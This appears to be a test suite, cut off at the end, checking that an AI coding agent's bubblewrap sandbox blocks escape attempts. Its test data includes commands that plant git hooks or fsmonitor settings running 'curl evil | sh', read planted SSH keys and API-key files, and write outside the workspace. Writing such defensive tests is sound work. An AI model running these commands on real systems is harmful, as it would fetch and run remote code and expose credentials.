"""The sandbox, attacked through the real mechanism: every command runs in bubblewrap with
the seccomp filter, as `bash -c`, both as the user running the tests and as `nobody` (an
unprivileged user, the usual case outside CI); each rule is also shown not to hold with the
sandbox `off`, so a test cannot pass because the attack was broken to begin with.

The scratch folders live outside /tmp: a sandboxed command's /tmp is the session's private
folder, which would hide an "outside" folder there and let the write tests pass for the
wrong reason.
"""

from __future__ import annotations

import contextlib
import errno
import os
import shlex
import shutil
import signal
import socket
import subprocess
import tempfile
import textwrap
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from agent_tutorial.adapters.sandbox import (
    SandboxMode,
    SandboxPolicy,
    SandboxUnavailableError,
    private_temporary_directory,
    sandbox_available,
    sandbox_denial_hint,
    sandboxed,
)
from tests.conftest import MARKER_VARIABLE, processes_with_marker, wait_until
from tests.other_user import Runtime

UNAVAILABLE = sandbox_available()
pytestmark = pytest.mark.skipif(
    UNAVAILABLE is not None, reason=f"no sandbox on this system: {UNAVAILABLE}"
)

KEY_TEXT = "-----BEGIN OPENSSH PRIVATE KEY-----"
SYSTEM_PYTHON = shutil.which("python3", path=os.defpath)
"""The system's Python (not the virtualenv's, which `nobody` may not reach) for the socket
tests that bash cannot write."""
SCRATCH_PARENT = Path("/var/tmp")
GIT_IDENTITY = {
    "GIT_AUTHOR_NAME": "Sandbox Test",
    "GIT_AUTHOR_EMAIL": "sandbox@example.invalid",
    "GIT_COMMITTER_NAME": "Sandbox Test",
    "GIT_COMMITTER_EMAIL": "sandbox@example.invalid",
    "GIT_CONFIG_NOSYSTEM": "1",
}


def _drop_to_nobody() -> tuple[str, ...]:
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("setpriv (util-linux) is not installed: cannot run as nobody")
    if os.geteuid() != 0:
        pytest.skip("only root can drop to nobody; the tests run as the invoker already")
    return (setpriv, "--reuid=nobody", "--regid=nogroup", "--clear-groups")


@dataclass
class Place:
    """A scratch world in `base`: a workspace, a folder outside it, a fake home with planted
    secrets, the session's private temporary directory; commands run after `user_prefix`
    (setpriv, to run as nobody)."""

    base: Path
    user_prefix: tuple[str, ...]
    runtime: Runtime | None = None
    """For `nobody`: the copy of the bundled bwrap and the package that user can reach."""
    environment: dict[str, str] = field(default_factory=dict)
    workspace: Path = field(init=False)
    outside: Path = field(init=False)
    home: Path = field(init=False)
    private_tmp: Path = field(init=False)

    def __post_init__(self) -> None:
        self.workspace, self.outside = self.base / "workspace", self.base / "outside"
        self.home, self.private_tmp = self.base / "home", self.base / "private-tmp"

    def policy(
        self,
        mode: SandboxMode = "workspace-write",
        *,
        network: bool = False,
        workspace: Path | None = None,
    ) -> SandboxPolicy:
        return SandboxPolicy(
            mode=mode,
            network=network,
            workspace=workspace or self.workspace,
            private_tmp=self.private_tmp,
            home=self.home,
        )

    def run(
        self, command: str, policy: SandboxPolicy | None = None
    ) -> subprocess.CompletedProcess[str]:
        policy = policy or self.policy()
        with sandboxed(policy, ["bash", "-c", command], cwd=policy.workspace) as launch:
            return subprocess.run(
                [*self.user_prefix, *self.reachable(launch.argv)],
                pass_fds=launch.pass_fds,
                env=self.environment,
                cwd=policy.workspace,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                timeout=60,
                start_new_session=True,
                check=False,
            )

    def start(self, argv: list[str], *, starter: tuple[str, ...] = ()) -> subprocess.Popen[bytes]:
        """`argv` confined and started (by `starter`, if given) in a session of its own,
        with its output on a pipe."""
        with sandboxed(self.policy(), argv, cwd=self.workspace) as launch:
            return subprocess.Popen(
                [*starter, *self.user_prefix, *self.reachable(launch.argv)],
                pass_fds=launch.pass_fds,
                env=self.environment,
                stdout=subprocess.PIPE,
                start_new_session=True,
            )

    def reachable(self, argv: Sequence[str]) -> list[str]:
        return self.runtime.reachable(argv) if self.runtime else list(argv)

    @property
    def pythonpath(self) -> str:
        """Where the user the commands run as finds the package."""
        return self.runtime.pythonpath if self.runtime else str(Path(__file__).parents[1])

    def off(self, command: str) -> subprocess.CompletedProcess[str]:
        return self.run(command, self.policy("off"))

    def give_away(self) -> None:
        """Hand everything made so far to the user the commands run as."""
        if self.user_prefix:
            subprocess.run(["chown", "-R", "nobody:nogroup", str(self.base)], check=True)


@pytest.fixture(params=["invoker", "nobody"])
def place(request: pytest.FixtureRequest, marker: str) -> Iterator[Place]:
    as_nobody = request.param == "nobody"
    prefix = _drop_to_nobody() if as_nobody else ()
    runtime = request.getfixturevalue("runtime_for_nobody") if as_nobody else None
    base = Path(tempfile.mkdtemp(prefix="sandbox-test-", dir=SCRATCH_PARENT))
    base.chmod(0o755)
    place = Place(base, prefix, runtime)
    for folder in (place.workspace, place.outside, place.home / ".ssh", place.private_tmp):
        folder.mkdir(parents=True)
    (place.home / ".ssh" / "id_rsa").write_text(f"{KEY_TEXT}\nb3BlbnNzaC1rZXktdjEA\n")
    (place.home / ".netrc").write_text("machine example.com login me password hunter2\n")
    place.environment = {
        "PATH": os.environ.get("PATH", os.defpath),
        "HOME": str(place.home),
        "LANG": "C.UTF-8",
        MARKER_VARIABLE: marker,
        **GIT_IDENTITY,
    }
    place.give_away()
    try:
        yield place
    finally:
        shutil.rmtree(base)


# Writes --------------------------------------------------------------------------------


def test_a_write_outside_the_workspace_fails_and_leaves_nothing(place: Place) -> None:
    denied = place.run("echo x > ../outside/f")

    assert denied.returncode != 0
    assert "Read-only file system" in denied.stderr
    assert not (place.outside / "f").exists()
    assert place.off("echo x > ../outside/f").returncode == 0
    assert (place.outside / "f").read_text() == "x\n"


def test_a_write_inside_the_workspace_works(place: Place) -> None:
    done = place.run("echo y > inside.txt && mkdir -p deep/er && echo z > deep/er/f")

    assert done.returncode == 0, done.stderr
    assert (place.workspace / "inside.txt").read_text() == "y\n"
    assert (place.workspace / "deep" / "er" / "f").read_text() == "z\n"


def test_read_only_stops_writes_inside_the_workspace(place: Place) -> None:
    denied = place.run("echo y > inside.txt", place.policy("read-only"))

    assert denied.returncode != 0
    assert "Read-only file system" in denied.stderr
    assert not (place.workspace / "inside.txt").exists()
    assert place.run("echo y > inside.txt").returncode == 0


@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
def test_tmp_is_the_private_directory_named_by_tmpdir_and_writable(
    place: Place, mode: SandboxMode
) -> None:
    done = place.run('echo t > "$TMPDIR/t" && printf %s "$TMPDIR"', place.policy(mode))

    assert done.returncode == 0, done.stderr
    assert done.stdout == "/tmp"
    assert (place.private_tmp / "t").read_text() == "t\n"


def test_tmp_is_shared_by_the_sessions_commands_and_not_the_hosts(place: Place) -> None:
    name = f"sandbox-test-{place.base.name}"

    written = place.run(f"echo t > /tmp/{name}")
    read = place.run(f"cat /tmp/{name}")

    assert written.returncode == 0, written.stderr
    assert read.stdout == "t\n"
    assert (place.private_tmp / name).read_text() == "t\n"
    assert not (Path("/tmp") / name).exists()
    assert place.off(f"cat /tmp/{name}").returncode != 0  # the host's /tmp never had it


@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
def test_a_workspace_under_tmp_stays_visible(place: Place, mode: SandboxMode) -> None:
    with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
        workspace = Path(under_tmp)
        (workspace / "seen.txt").write_text("seen\n")
        if place.user_prefix:
            subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)

        done = place.run("cat seen.txt", place.policy(mode, workspace=workspace))
        write = place.run("echo w > written.txt", place.policy(mode, workspace=workspace))

        assert done.returncode == 0, done.stderr
        assert done.stdout == "seen\n"
        assert (write.returncode == 0) is (mode == "workspace-write"), write.stderr
        assert (workspace / "written.txt").exists() is (mode == "workspace-write")


REFUSED_ATTEMPTS = {
    "a write outside": "echo x > ../outside/f",
    "a unix socket": f"{SYSTEM_PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX)'",
    "the keyring": "keyctl show @s",
    "a user namespace": "unshare --user true",
    "a killed shell": "kill -KILL $$",
}


@pytest.mark.parametrize("attempt", REFUSED_ATTEMPTS.values(), ids=REFUSED_ATTEMPTS.keys())
def test_after_a_refused_attempt_the_next_command_runs_normally(place: Place, attempt: str) -> None:
    refused = place.run(attempt)
    after = place.run("echo ok > after.txt && cat after.txt && echo t > /tmp/t && cat /tmp/t")

    assert refused.returncode != 0
    assert after.returncode == 0, after.stderr
    assert after.stdout == "ok\nt\n"


def test_a_symlink_to_outside_does_not_let_a_write_through(place: Place) -> None:
    (place.workspace / "planted").symlink_to(place.outside)
    place.give_away()

    planted = place.run("echo x > planted/f")
    made_inside = place.run("ln -s ../outside made && echo x > made/g")

    assert planted.returncode != 0 and made_inside.returncode != 0
    assert list(place.outside.iterdir()) == []
    assert place.off("echo x > planted/f").returncode == 0


def test_a_symlink_inside_the_workspace_is_followed_where_writing_is_allowed(
    place: Place,
) -> None:
    (place.workspace / "sub").mkdir()
    (place.workspace / "link").symlink_to("sub")
    place.give_away()

    done = place.run("echo x > link/f")

    assert done.returncode == 0, done.stderr
    assert (place.workspace / "sub" / "f").read_text() == "x\n"


# What the agent and git obey -----------------------------------------------------------

STATE_ATTACKS = {
    "overwrite": "echo evil > .agent_tutorial/config.toml",
    "append": "echo evil >> .agent_tutorial/config.toml",
    "new file": "echo evil > .agent_tutorial/hooks.toml",
    "remove": "rm -f .agent_tutorial/config.toml",
    "move the folder away": "mv .agent_tutorial gone && mkdir .agent_tutorial",
    "through a symlink": "ln -s .agent_tutorial alias && echo evil > alias/config.toml",
    "through an absolute path": 'echo evil > "$PWD/.agent_tutorial/config.toml"',
}


@pytest.mark.parametrize("attack", STATE_ATTACKS.values(), ids=STATE_ATTACKS.keys())
def test_the_state_folder_cannot_be_changed(place: Place, attack: str) -> None:
    state = place.workspace / ".agent_tutorial"
    state.mkdir()
    (state / "config.toml").write_text("model = 'mine'\n")
    place.give_away()

    denied = place.run(attack)

    assert denied.returncode != 0
    assert sorted(path.name for path in state.iterdir()) == ["config.toml"]
    assert (state / "config.toml").read_text() == "model = 'mine'\n"
    assert place.off(attack).returncode == 0


def test_a_state_folder_that_is_a_symlink_is_protected_at_its_target(place: Place) -> None:
    (place.workspace / "state").mkdir()
    (place.workspace / ".agent_tutorial").symlink_to("state")
    place.give_away()

    denied = place.run("echo evil > state/config.toml; echo evil > .agent_tutorial/config.toml")

    assert denied.returncode != 0
    assert list((place.workspace / "state").iterdir()) == []


def test_a_missing_state_folder_cannot_be_created_with_a_config(place: Place) -> None:
    denied = place.run("mkdir -p .agent_tutorial && echo evil > .agent_tutorial/config.toml")

    assert denied.returncode != 0
    assert not (place.workspace / ".agent_tutorial" / "config.toml").exists()


def test_a_state_folder_at_a_project_root_above_is_read_only_hidden_and_not_copied(
    place: Place,
) -> None:
    state = place.workspace / ".agent_tutorial"
    state.mkdir()
    (state / "config.toml").write_text("model = 'mine'\n")
    (state / ".env").write_text("OPENAI_API_KEY=sk-root-secret\n")
    subdirectory = place.workspace / "src"
    subdirectory.mkdir()
    place.give_away()
    policy = SandboxPolicy(
        mode="workspace-write",
        network=False,
        workspace=subdirectory,
        private_tmp=place.private_tmp,
        home=place.home,
        project_root=place.workspace,
    )
    attack = "cat ../.agent_tutorial/.env; echo evil >> ../.agent_tutorial/config.toml"

    denied = place.run(f"{attack}; echo ok > here.txt", policy)

    assert "sk-root-secret" not in denied.stdout + denied.stderr
    assert (state / "config.toml").read_text() == "model = 'mine'\n"
    assert (subdirectory / "here.txt").read_text() == "ok\n"
    assert not (subdirectory / ".agent_tutorial").exists()
    assert "sk-root-secret" in place.run(attack, replace(policy, mode="off")).stdout


@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
def test_the_state_folder_env_file_is_not_readable(place: Place, mode: SandboxMode) -> None:
    state = place.workspace / ".agent_tutorial"
    state.mkdir()
    (state / ".env").write_text("OPENAI_API_KEY=sk-planted-secret\n")
    (state / "notes.txt").write_text("readable\n")
    place.give_away()

    hidden = place.run(
        "cat .agent_tutorial/.env; cat .agent_tutorial/notes.txt", place.policy(mode)
    )

    assert "sk-planted-secret" not in hidden.stdout + hidden.stderr
    assert "readable" in hidden.stdout
    assert "sk-planted-secret" in place.off("cat .agent_tutorial/.env").stdout


@pytest.fixture(scope="module")
def committed_repository() -> Iterator[Path]:
    """A folder holding a repository with one commit (of `a`), made once and copied by
    `commit_a_repository`: three git processes per test would double this file's time."""
    folder = Path(tempfile.mkdtemp(prefix="sandbox-test-repository-", dir=SCRATCH_PARENT))
    (folder / "a").write_text("a\n")
    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "first"]):
        subprocess.run(
            ["git", *command], cwd=folder, env={"PATH": os.defpath, **GIT_IDENTITY}, check=True
        )
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


def commit_a_repository(template: Path, place: Place, folder: Path | None = None) -> Path:
    """The committed repository copied into `folder` (default: the workspace) and handed to
    the user the commands run as; returns its `.git`."""
    folder = folder or place.workspace
    shutil.copytree(template, folder, symlinks=True, dirs_exist_ok=True)
    place.give_away()
    if place.user_prefix and not folder.is_relative_to(place.base):
        subprocess.run(["chown", "-R", "nobody:nogroup", str(folder)], check=True)
    return folder / ".git"


def git_state(git: Path) -> list[tuple[str, bytes]]:
    """Every file under `git` with its content, and every folder, to compare before and after."""
    return sorted(
        (str(path.relative_to(git)), path.read_bytes() if path.is_file() else b"")
        for path in git.rglob("*")
    )


GIT_ATTACKS = {
    "a hook": "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "the config": "git config core.fsmonitor 'curl evil | sh'",
    "info/attributes": "echo '* filter=evil' > .git/info/attributes",
    "the hooks folder moved away": "mv .git/hooks .git/old && mkdir .git/hooks",
    "the repository replaced": "mv .git .git_old && mkdir .git && cp -r .git_old/. .git/ "
    "&& git config core.fsmonitor 'curl evil | sh'",
    "the repository removed": "rm -rf .git && git init -q && git config core.hooksPath x",
    "commondir": "echo ../build/.c > .git/commondir",
    "config.worktree": "echo '[core] fsmonitor = evil' > .git/config.worktree",
    "worktrees/": "mkdir -p .git/worktrees/evil",
    "modules/": "mkdir -p .git/modules/evil",
    "alternates": "echo /var/tmp/evil > .git/objects/info/alternates",
    "a .git file instead": "mv .git .git_old && echo 'gitdir: /var/tmp/evil' > .git",
}


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.parametrize("attack", GIT_ATTACKS.values(), ids=GIT_ATTACKS.keys())
def test_nothing_in_the_repository_folder_can_be_changed(
    place: Place, committed_repository: Path, attack: str
) -> None:
    git = commit_a_repository(committed_repository, place)
    before = git_state(git)

    denied = place.run(attack)

    assert denied.returncode != 0
    assert git.is_dir()
    assert git_state(git) == before
    assert not (place.workspace / ".git_old").exists()
    assert place.off(attack).returncode == 0


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_git_status_log_and_diff_work_but_add_and_commit_fail_with_a_hint(
    place: Place, committed_repository: Path
) -> None:
    git = commit_a_repository(committed_repository, place)
    (place.workspace / "a").write_text("changed\n")
    place.give_away()
    before = git_state(git)

    read = place.run("git status --short && git log --oneline && git diff --stat")
    commit = place.run("git add a && git commit -qm second")

    assert read.returncode == 0, read.stderr
    assert read.stdout.splitlines()[0] == " M a"
    assert read.stdout.splitlines()[1].endswith(" first")
    assert "1 file changed" in read.stdout
    assert commit.returncode != 0
    hint = sandbox_denial_hint(commit.stderr, place.policy())
    assert hint is not None
    assert "The repository (.git) is read-only in the sandbox" in hint
    assert git_state(git) == before
    assert place.off("git add a && git commit -qm second").returncode == 0


def test_a_denial_elsewhere_does_not_blame_the_repository(place: Place) -> None:
    denied = place.run("echo x > ../outside/f")

    hint = sandbox_denial_hint(denied.stderr, place.policy())

    assert hint is not None
    assert "repository" not in hint


@pytest.mark.parametrize(
    ("output", "blamed"),
    [
        ("fatal: Unable to create '/w/.git/index.lock': Read-only file system", True),
        ("error: could not lock config file .git/config: Read-only file system", True),
        ("mv: cannot move '.git' to 'old': Read-only file system", True),
        ("touch: cannot touch '.github/ci.yml': Read-only file system", False),
        ("sh: .gitignore: Read-only file system", False),
        ("fatal: Unable to create '/w/.git/index.lock': File exists", False),
    ],
)
def test_only_a_read_only_refusal_in_git_gets_the_repository_note(
    tmp_path: Path, output: str, blamed: bool
) -> None:
    policy = SandboxPolicy(
        mode="workspace-write",
        network=True,
        workspace=tmp_path,
        private_tmp=tmp_path,
        home=tmp_path,
    )

    hint = sandbox_denial_hint(f"{output}\nOperation not permitted", policy) or ""

    assert ("The repository (.git) is read-only in the sandbox" in hint) is blamed


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_repository_made_by_a_command_is_protected_from_the_next_command(
    place: Place,
) -> None:
    made = place.run("git init -q && echo a > a && git add a && git commit -qm first")
    changed = place.run("git config core.fsmonitor evil")

    assert made.returncode == 0, made.stderr
    assert changed.returncode != 0
    assert "fsmonitor" not in (place.workspace / ".git" / "config").read_text()


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.timeout(30)
@pytest.mark.parametrize("pointer", [".git/commondir", ".git"])
def test_a_pointer_a_command_made_a_fifo_does_not_stop_the_next_command(
    place: Place, pointer: str
) -> None:
    # Finding the repository reads `.git` files and `commondir`: a FIFO there would block
    # that read, and with it every later command of the session.
    made = place.run(f"git init -q && rm -rf {pointer} && mkfifo {pointer} && echo made")
    after = place.run("echo after")

    assert made.stdout == "made\n", made.stderr
    assert after.returncode == 0, after.stderr
    assert after.stdout == "after\n"


LOOPS = {
    "a .git link": "ln -s .git .git",
    "a commondir": "git init -q && echo loop > .git/commondir && ln -s loop .git/loop",
    "a protected path's folder": "ln -s hooks hooks",
    "a secret in a home workspace": "ln -s .kube .kube",
}


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.timeout(30)
@pytest.mark.parametrize("loop", LOOPS.values(), ids=LOOPS.keys())
def test_a_symlink_loop_a_command_made_does_not_stop_the_next_command(
    place: Place, loop: str
) -> None:
    # Every path the set-up decides by is resolved first; a loop must not end the session
    # in a traceback.
    policy = replace(
        place.policy(workspace=place.home), protected=(place.home / "hooks" / "guard.py",)
    )

    made = place.run(f"{loop} && echo made", policy)
    after = place.run("echo after", policy)

    assert made.stdout == "made\n", made.stderr
    assert after.returncode == 0, after.stderr
    assert after.stdout == "after\n"


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_the_agent_creates_nothing_in_a_repository(
    place: Place, committed_repository: Path
) -> None:
    git = commit_a_repository(committed_repository, place)
    shutil.rmtree(git / "hooks")
    before = git_state(git)

    denied = place.run("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")

    assert denied.returncode != 0
    assert git_state(git) == before
    assert not (git / "hooks").exists()


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_linked_worktrees_git_file_and_both_git_folders_are_read_only(
    place: Place, committed_repository: Path
) -> None:
    main = commit_a_repository(committed_repository, place, place.outside / "main")
    linked = place.workspace / "linked"
    subprocess.run(
        [*place.user_prefix, "git", "worktree", "add", "-q", str(linked)],
        cwd=main.parent,
        env=place.environment,
        check=True,
    )
    place.give_away()
    policy = place.policy(workspace=linked)
    before = (git_state(main), (linked / ".git").read_bytes())
    attack = (
        "echo 'gitdir: /var/tmp/evil' > .git; git config core.fsmonitor evil; "
        'echo evil > "$(git rev-parse --git-dir)/commondir"'
    )

    status = place.run("git status --short && git log --oneline", policy)
    denied = place.run(attack, policy)

    assert status.returncode == 0, status.stderr
    assert status.stdout.endswith(" first\n")
    assert denied.returncode != 0
    assert (git_state(main), (linked / ".git").read_bytes()) == before


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_workspace_in_a_repository_under_tmp_still_sees_it(
    place: Place, committed_repository: Path
) -> None:
    with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
        subfolder = Path(under_tmp) / "repository" / "src"
        subfolder.mkdir(parents=True)
        if place.user_prefix:
            subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)
        git = commit_a_repository(committed_repository, place, subfolder.parent)
        before = git_state(git)

        status = place.run("git log --oneline", place.policy(workspace=subfolder))
        denied = place.run("git config core.fsmonitor evil", place.policy(workspace=subfolder))

        assert status.returncode == 0, status.stderr
        assert status.stdout.endswith(" first\n")
        assert denied.returncode != 0
        assert git_state(git) == before


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_git_symlink_gets_a_working_sandbox_and_its_target_stays_read_only(
    place: Place,
    committed_repository: Path,
) -> None:
    git = commit_a_repository(committed_repository, place, place.workspace / "real")
    (place.workspace / ".git").symlink_to("real/.git")
    shutil.rmtree(git / "hooks")
    place.give_away()
    before = git_state(git)

    status = place.run("git log --oneline")
    denied = place.run("mkdir real/.git/hooks; git config core.fsmonitor evil")

    assert status.returncode == 0, status.stderr
    assert status.stdout.endswith(" first\n")
    assert denied.returncode != 0
    assert git_state(git) == before


# Protected paths ------------------------------------------------------------------------

PROTECTED_ATTACKS = {
    "overwrite": "echo evil > {path}",
    "remove": "rm -f {path}",
    "move the folder away": "mv {top} moved && mkdir {top} && echo evil > {path}",
    "replace by a link": "rm -rf {top} && ln -s ../outside {top}",
}


@pytest.mark.parametrize("attack", PROTECTED_ATTACKS.values(), ids=PROTECTED_ATTACKS.keys())
@pytest.mark.parametrize("relative", ["hooks/guard.py", "guard.py"])
def test_a_protected_path_and_its_topmost_folder_cannot_be_changed(
    place: Place, relative: str, attack: str
) -> None:
    path = place.workspace / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("print('guard')\n")
    place.give_away()
    policy = replace(place.policy(), protected=(path,))
    command = attack.format(path=relative, top=relative.split("/")[0])

    denied = place.run(command, policy)
    beside = place.run("echo ok > beside.txt", policy)

    assert denied.returncode != 0
    assert path.read_text() == "print('guard')\n"
    assert not (place.workspace / "moved").exists()
    assert beside.returncode == 0, beside.stderr
    assert (place.workspace / "beside.txt").read_text() == "ok\n"
    place.run(command)  # not protected: the attack works
    assert not path.is_file() or path.read_text() != "print('guard')\n"


def test_a_deep_protected_path_keeps_its_topmost_folder_read_only(place: Place) -> None:
    path = place.workspace / "a" / "b" / "c" / "guard.py"
    path.parent.mkdir(parents=True)
    path.write_text("print('guard')\n")
    place.give_away()
    policy = replace(place.policy(), protected=(path,))

    denied = place.run("mv a moved || mv a/b a/moved || mv a/b/c a/b/moved", policy)

    assert denied.returncode != 0
    assert path.read_text() == "print('guard')\n"
    assert sorted(p.name for p in place.workspace.iterdir()) == [".agent_tutorial", "a"]


def test_a_protected_path_that_does_not_exist_or_lies_outside_reserves_nothing(
    place: Place,
) -> None:
    outside = place.outside / "guard.py"
    outside.write_text("print('guard')\n")
    place.give_away()
    policy = replace(place.policy(), protected=(place.workspace / "hooks" / "x.py", outside))

    done = place.run("mkdir hooks && echo x > hooks/x.py", policy)

    assert done.returncode == 0, done.stderr
    assert (place.workspace / "hooks" / "x.py").read_text() == "x\n"


def test_a_protected_path_must_be_absolute(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"protected\[0\] must be an absolute path"):
        SandboxPolicy(
            mode="workspace-write",
            network=False,
            workspace=tmp_path,
            private_tmp=tmp_path,
            home=tmp_path,
            protected=(Path("hooks/guard.py"),),
        )


# Network ---------------------------------------------------------------------------------


@pytest.fixture
def listening_port() -> Iterator[int]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def test_a_tcp_connection_to_a_listening_loopback_port_fails_unless_network_is_on(
    place: Place, listening_port: int
) -> None:
    connect = f"exec 3<>/dev/tcp/127.0.0.1/{listening_port} && echo connected"

    denied = place.run(connect)
    allowed = place.run(connect, place.policy(network=True))

    assert denied.returncode != 0
    assert "connected" not in denied.stdout
    assert allowed.returncode == 0, allowed.stderr
    assert allowed.stdout == "connected\n"


def test_a_route_to_another_host_does_not_exist_without_network(place: Place) -> None:
    # 192.0.2.1 is TEST-NET-1: nothing answers there, and no packet leaves this machine
    # either way; inside the sandbox there is not even a route to try.
    denied = place.run("exec 3<>/dev/tcp/192.0.2.1/80")

    assert denied.returncode != 0
    assert "Network is unreachable" in denied.stderr


@pytest.fixture
def unix_listener(place: Place) -> Iterator[Path]:
    path = place.outside / "agent.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        path.chmod(0o777)
        server.listen()
        yield path


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
def test_a_unix_socket_outside_the_workspace_cannot_be_connected(
    place: Place, unix_listener: Path
) -> None:
    connect = (
        f"{SYSTEM_PYTHON} -c 'import socket, sys; "
        f'socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print("connected")\' '
        f"{unix_listener}"
    )

    denied = place.run(connect)

    assert denied.returncode != 0
    assert "Operation not permitted" in denied.stderr
    assert place.off(connect).stdout == "connected\n"


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
def test_unix_sockets_stay_closed_inside_the_workspace_and_with_network_on(
    place: Place,
) -> None:
    # Stricter than the workspace boundary on purpose: the filter cannot see a socket's
    # path, so it closes the family; anonymous socketpair() pairs still work.
    serve = (
        f'{SYSTEM_PYTHON} -c \'import socket; socket.socketpair(); print("pair"); '
        f'socket.socket(socket.AF_UNIX).bind("here.sock")\''
    )

    denied = place.run(serve, place.policy(network=True))

    assert denied.stdout == "pair\n"
    assert denied.returncode != 0
    assert "Operation not permitted" in denied.stderr
    assert not (place.workspace / "here.sock").exists()


def python_in_sandbox(script: str) -> str:
    return f"{SYSTEM_PYTHON} -c {shlex.quote(script)}"


KEYRING_CALLS = {
    "keyctl": "libc.syscall(SYS_keyctl, 0, -3, 0)",  # KEYCTL_GET_KEYRING_ID of @s
    "add_key": "libc.syscall(SYS_add_key, b'user', b'k', b'v', 1, -3)",
    "request_key": "libc.syscall(SYS_request_key, b'user', b'k', None, -3)",
}
SYSCALL_NUMBERS = {"x86_64": (250, 248, 249), "aarch64": (219, 217, 218)}


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to call keyctl")
@pytest.mark.parametrize("call", KEYRING_CALLS.values(), ids=KEYRING_CALLS.keys())
def test_the_kernel_keyrings_are_refused(place: Place, call: str) -> None:
    numbers = SYSCALL_NUMBERS.get(os.uname().machine)
    if numbers is None:
        pytest.skip(f"no keyring syscall numbers for {os.uname().machine}")
    keyctl, add_key, request_key = numbers
    script = (
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"SYS_keyctl, SYS_add_key, SYS_request_key = {keyctl}, {add_key}, {request_key}\n"
        f"result = {call}\n"
        "print(result, ctypes.get_errno())\n"
    )

    refused = place.run(python_in_sandbox(script))
    unconfined = place.off(python_in_sandbox(script))

    assert refused.stdout == f"-1 {errno.EPERM}\n", refused.stderr
    # Outside, the kernel answers (a key id, or ENOKEY for a key that is not there), not
    # the filter's EPERM (in a container whose own profile refuses keyrings, this fails).
    assert unconfined.stdout != refused.stdout


@pytest.fixture
def datagram_listener(place: Place) -> Iterator[socket.socket]:
    path = place.outside / "datagram.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as server:
        server.bind(str(path))
        path.chmod(0o777)
        server.settimeout(0)
        yield server


def received(server: socket.socket) -> list[bytes]:
    messages = []
    with contextlib.suppress(BlockingIOError):
        while True:
            messages.append(server.recv(100))
    return messages


SEND_TO_HOST = {
    "a datagram pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "a.sendto(b'pwned', target)",
    "a datagram pair, sendmsg": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "a.sendmsg([b'pwned'], [], 0, target)",
    "a datagram pair, connect": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "a.connect(target)\na.send(b'pwned')",
    "a raw pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)\n"
    "a.sendto(b'pwned', target)",
    "a non-blocking datagram pair": "a, b = socket.socketpair(socket.AF_UNIX, "
    "socket.SOCK_DGRAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC)\n"
    "a.sendto(b'pwned', target)",
    "a seqpacket pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
    "a.sendto(b'pwned', target)",
    "a stream pair": "a, b = socket.socketpair()\na.sendto(b'pwned', target)",
    "a stream pair, connect": "a, b = socket.socketpair()\na.connect(target)\na.send(b'x')",
}


REFUSED_PAIRS = {name for name in SEND_TO_HOST if "datagram" in name or "raw" in name}
"""A Unix datagram pair (SOCK_RAW is one too) is refused outright; a stream or seqpacket
pair is made, and what it sends goes to its peer or nowhere."""


@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
@pytest.mark.parametrize(
    ("address", "network"),
    [("path", False), ("path", True), ("abstract", True)],
    ids=["path-network-off", "path-network-on", "abstract-network-on"],
)
def test_nothing_a_command_sends_reaches_a_host_unix_socket(
    place: Place, datagram_listener: socket.socket, address: str, network: bool
) -> None:
    # An abstract name lives in the network namespace: with the network off the command has
    # its own, where the host's names do not exist at all.
    if address == "abstract":
        name = f"\0agent-tutorial-test-{place.base.name}"
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as abstract:
            abstract.bind(name)
            abstract.settimeout(0)
            outcomes = _send_to(place, name, network)
            messages = received(abstract)
    else:
        outcomes = _send_to(place, datagram_listener.getsockname(), network)
        messages = received(datagram_listener)

    assert messages == []
    assert {name for name, outcome in outcomes.items() if outcome == "refused"} == REFUSED_PAIRS


def _send_to(place: Place, target: str, network: bool) -> dict[str, str]:
